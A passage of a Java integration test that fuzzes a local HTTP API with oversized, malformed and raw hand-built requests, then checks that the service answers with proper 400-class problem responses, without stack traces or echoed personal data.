        values.add(new Hostile("over cap", "\"" + "z".repeat(2_500) + "\"", true));
        values.add(new Hostile("over cap, non-ASCII", "\"" + "\u570b".repeat(2_100) + "\"", true));
        return values;
    }

    // ---- how it is sent, and how answers are judged ----

    Map<String, String> withCredentials(Endpoint endpoint, Map<String, String> extra) {
        Map<String, String> headers = new LinkedHashMap<>(credentials.computeIfAbsent(endpoint.actor(),
                actor -> ApiCredentials.headersOf(issuer, actor)));
        headers.put("Idempotency-Key", nextKey());
        headers.put("X-Channel", "web");
        headers.putAll(extra);
        return headers;
    }

    String nextKey() {
        return "fuzz-" + getClass().getSimpleName() + "-" + (++keySequence);
    }

    Answer send(Endpoint endpoint, String path, String body, Map<String, String> extra, Sent sent) throws Exception {
        return sendBytes(endpoint, path, "POST", body.getBytes(StandardCharsets.UTF_8), "application/json", extra, sent);
    }

    void sendBytes(Endpoint endpoint, byte[] body, String contentType, Sent sent) throws Exception {
        sendBytes(endpoint, endpoint.path(), "POST", body, contentType, Map.of(), sent);
    }

    void sendMethod(Endpoint endpoint, String method, String body, Sent sent) throws Exception {
        sendBytes(endpoint, endpoint.path(), method, body.getBytes(StandardCharsets.UTF_8), "application/json", Map.of(), sent);
    }

    Answer sendBytes(Endpoint endpoint, String path, String method, byte[] body, String contentType, Map<String, String> extra, Sent sent)
            throws Exception {
        Map<String, String> headers = withCredentials(endpoint, Map.of("Content-Type", contentType));
        headers.putAll(extra);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).timeout(Duration.ofSeconds(30));
        headers.forEach(request::header);
        HttpRequest.BodyPublisher publisher = body.length == 0 && !method.equals("POST") ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(body);
        request.method(method, publisher);
        HttpResponse<byte[]> response = http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
        Answer answer = new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                new String(response.body(), StandardCharsets.UTF_8));
        judge(answer, sent, headers.get("Idempotency-Key"), method);
        return answer;
    }

    void sendChunked(Endpoint endpoint, byte[] body, Sent sent) throws Exception {
        Map<String, String> headers = withCredentials(endpoint, Map.of("Content-Type", "application/json"));
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + endpoint.path()))
                .timeout(Duration.ofSeconds(30));
        headers.forEach(request::header);
        request.POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)));
        HttpResponse<byte[]> response = http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
        judge(new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                new String(response.body(), StandardCharsets.UTF_8)), sent, headers.get("Idempotency-Key"), "POST");
    }

    /** HTTP/1.1 by hand, for what HttpClient will not send: bad paths, control characters in headers, a lying Content-Length. */
    void sendRaw(Endpoint endpoint, String method, String path, Map<String, String> headers, byte[] body, Sent sent) throws Exception {
        Map<String, String> all = new LinkedHashMap<>(headers);
        if (!all.containsKey("Idempotency-Key")) {
            all.putAll(withCredentials(endpoint, Map.of()));
            all.putAll(headers);
        }
        all.putIfAbsent("Content-Length", Integer.toString(body.length));
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.write((method + " " + path + " HTTP/1.1\r\nHost: localhost:" + port + "\r\nConnection: close\r\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        for (Map.Entry<String, String> header : all.entrySet()) {
            request.write((header.getKey() + ": " + header.getValue() + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        request.write("\r\n".getBytes(StandardCharsets.ISO_8859_1));
        request.write(body);
        byte[] raw;
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.toByteArray());
            out.flush();
            raw = readAll(socket.getInputStream());
        }
        judge(parse(raw), sent, all.get("Idempotency-Key"), method);
    }

    /**
     * Reads until the server closes the connection or the answer is complete (by its Content-Length, or the
     * last chunk): after refusing a body it will not read, the server need not close at once.
     */
    static byte[] readAll(InputStream input) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[8_192];
        int read;
        try {
            while ((read = input.read(buffer)) != -1) {
                out.write(buffer, 0, read);
                if (complete(out.toString(StandardCharsets.ISO_8859_1))) {
                    break;
                }
            }
        } catch (java.net.SocketException reset) {
            // The server may close after answering an oversized request; what arrived is the answer.
        }
        return out.toByteArray();
    }

    static boolean complete(String text) {
        int end = text.indexOf("\r\n\r\n");
        if (end < 0) {
            return false;
        }
        String head = text.substring(0, end).toLowerCase(Locale.ROOT);
        Matcher length = java.util.regex.Pattern.compile("\r\ncontent-length: *([0-9]+)").matcher(head);
        if (length.find()) {
            return text.length() - end - 4 >= Integer.parseInt(length.group(1));
        }
        return head.contains("transfer-encoding: chunked") && text.endsWith("\r\n0\r\n\r\n");
    }

    static Answer parse(byte[] raw) {
        String text = new String(raw, StandardCharsets.UTF_8);
        int end = text.indexOf("\r\n\r\n");
        String head = end < 0 ? text : text.substring(0, end);
        String body = end < 0 ? "" : text.substring(end + 4);
        String[] lines = head.split("\r\n");
        int status = lines.length > 0 && lines[0].startsWith("HTTP/1.1 ") ? Integer.parseInt(lines[0].substring(9, 12)) : -1;
        String contentType = "";
        boolean chunked = false;
        for (String line : lines) {
            String lower = line.toLowerCase(Locale.ROOT);
            if (lower.startsWith("content-type:")) {
                contentType = line.substring(13).trim();
            } else if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) {
                chunked = true;
            }
        }
        return new Answer(status, contentType, chunked ? dechunk(body) : body);
    }

    static String dechunk(String body) {
        StringBuilder out = new StringBuilder();
        int at = 0;
        while (at < body.length()) {
            int lineEnd = body.indexOf("\r\n", at);
            if (lineEnd < 0) {
                break;
            }
            int size = Integer.parseInt(body.substring(at, lineEnd).trim().split(";")[0], 16);
            if (size == 0) {
                break;
            }
            // Sizes count bytes; the problem bodies are ASCII, so characters will do here.
            out.append(body, lineEnd + 2, Math.min(body.length(), lineEnd + 2 + size));
            at = lineEnd + 2 + size + 2;
        }
        return out.toString();
    }

    void judge(Answer answer, Sent sent, String key, String method) {
        sentPerEndpoint.merge(sent.endpoint(), 1, Integer::sum);
        statuses.merge(answer.status(), 1, Integer::sum);
        String what = sent.endpoint() + " [" + sent.what() + "] -> " + answer.status() + " " + abbreviate(answer.body());
        if (answer.status() < 200 || answer.status() >= 500) {
            failures.add("not a 2xx-4xx answer: " + what);
            return;
        }
        if (answer.body().contains("Exception") || answer.body().contains("at org.") || answer.body().contains("\tat ")
                || answer.body().contains("at java.")) {
            failures.add("stack trace or exception in the answer: " + what);
        }
        if (sent.secret() != null && answer.body().contains(sent.secret().replace("\"", ""))) {
            failures.add("personal data repeated: " + what);
        }
        boolean problem = answer.contentType().startsWith("application/problem+json");
        if (answer.status() >= 400 && !problem && !method.equals("HEAD") && !sent.containerMayAnswer()) {
            failures.add("a refusal that is not a problem: " + answer.contentType() + " " + what);
        }
        if (answer.status() >= 200 && answer.status() < 300 && method.equals("POST")) {
            failures.add("accepted: " + what);
        }
        if (sent.mustRefuse() && answer.status() != 429) {
            if (answer.status() != 400) {
                failures.add("not refused as 400: " + what);
            } else if (sent.field() != null && !namesField(answer.body(), sent.field())) {
                failures.add("problem does not name " + sent.field() + ": " + what);
            }
        }
        if (problem && answer.status() >= 400 && refusedBeforeLedger(answer)) {
            keysRefusedBeforeLedger.add(key);
        }
    }

    /** The problem's field (or one of its errors) is the mutated path, a part of it, or within it. */
    boolean namesField(String body, String path) {
        try {
            JsonNode problem = json.readTree(body);
            List<String> named = new ArrayList<>();
            if (problem.hasNonNull("field")) {
                named.add(problem.get("field").asText());
            }
            problem.path("errors").forEach(error -> named.add(error.path("field").asText()));
            return named.stream().anyMatch(field -> !field.isEmpty() && (path.startsWith(field) || field.startsWith(path)));
        } catch (IOException notJson) {
            return false;
        }
    }

    boolean refusedBeforeLedger(Answer answer) {
        if (answer.status() == 405 || answer.status() == 406 || answer.status() == 413 || answer.status() == 415) {
            return true;
        }
        try {
            JsonNode problem = json.readTree(answer.body());
            String type = problem.path("type").asText();
            return type.endsWith(":malformed-request") || type.endsWith(":invalid-request") || type.endsWith(":payload-too-large")
                    || (answer.status() == 404 && !problem.has("rule") && !problem.has("field"));
        } catch (IOException notJson) {
            return true;
        }
    }

    // ---- JSON helpers ----

    static String firstKey(String body) {
        int quote = body.indexOf('"');
        return quote < 0 ? null : body.substring(quote + 1, body.indexOf('"', quote + 1));
    }

    static void collectPaths(JsonNode node, String path, List<String> paths) {
        if (!path.isEmpty()) {
            paths.add(path);
        }
        if (node instanceof ObjectNode object) {
            object.fieldNames().forEachRemaining(name -> collectPaths(object.get(name), path.isEmpty() ? name : path + "." + name, paths));
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                collectPaths(array.get(i), path + "[" + i + "]", paths);
            }
        }
    }

    /** The body with the value at {@code path} replaced by raw JSON text (which may be invalid JSON on purpose). */
    String replaceAt(JsonNode tree, String path, String rawJson) throws IOException {
        JsonNode copy = tree.deepCopy();
        String marker = "@@HOSTILE-" + UUID.nameUUIDFromBytes(path.getBytes(StandardCharsets.UTF_8)) + "@@";
        JsonNode parent = copy;
        String[] steps = path.replace("[", ".[").split("\\.");
        for (int i = 0; i < steps.length - 1; i++) {
            parent = steps[i].startsWith("[") ? parent.get(Integer.parseInt(steps[i].substring(1, steps[i].length() - 1)))
                    : parent.get(steps[i]);
        }
        String last = steps[steps.length - 1];
        if (last.startsWith("[")) {
            ((ArrayNode) parent).set(Integer.parseInt(last.substring(1, last.length() - 1)), TextNode.valueOf(marker));
        } else {
            ((ObjectNode) parent).set(last, TextNode.valueOf(marker));
        }
        return json.writeValueAsString(copy).replace("\"" + marker + "\"", rawJson);
    }

    static byte[] insertInString(String base, byte[] bytes) {
        byte[] body = (base.isEmpty() ? "{\"a\": \"xx\"}" : base).getBytes(StandardCharsets.UTF_8);
        int quote = 0;
        for (int i = 0, seen = 0; i < body.length; i++) {
            if (body[i] == '"' && ++seen == 4) {
                quote = i + 1;
                break;
            }
        }
        byte[] out = new byte[body.length + bytes.length];
        System.arraycopy(body, 0, out, 0, quote);
        System.arraycopy(bytes, 0, out, quote, bytes.length);
        System.arraycopy(body, quote, out, quote + bytes.length, body.length - quote);
        return out;
    }

    static String abbreviate(String text) {
        String flat = text.replaceAll("\\s+", " ");
        return flat.length() > 300 ? flat.substring(0, 300) + "…" : flat;
    }

    // ---- the stores ----

    Answer post(Actor actor, String path, String body, int expected) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json").header("Idempotency-Key", UUID.randomUUID().toString());
        ApiCredentials.headersOf(issuer, actor).forEach(request::header);
        HttpResponse<String> response = http.send(request.POST(HttpRequest.BodyPublishers.ofString(body)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as(path + " " + response.body()).isEqualTo(expected);
        return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
    }

    long eventCount() {
        Long count = jdbc.queryForObject("SELECT COUNT(*) FROM domainevententry", Long.class);
        return count == null ? 0 : count;
    }

    Long lastGlobalIndex() {
        return jdbc.queryForObject("SELECT MAX(globalindex) FROM domainevententry", Long.class);
    }

    int idempotencyRows() {
        Integer rows = jdbc.queryForObject("SELECT COUNT(*) FROM idempotency_key", Integer.class);
        return rows == null ? 0 : rows;
    }
}
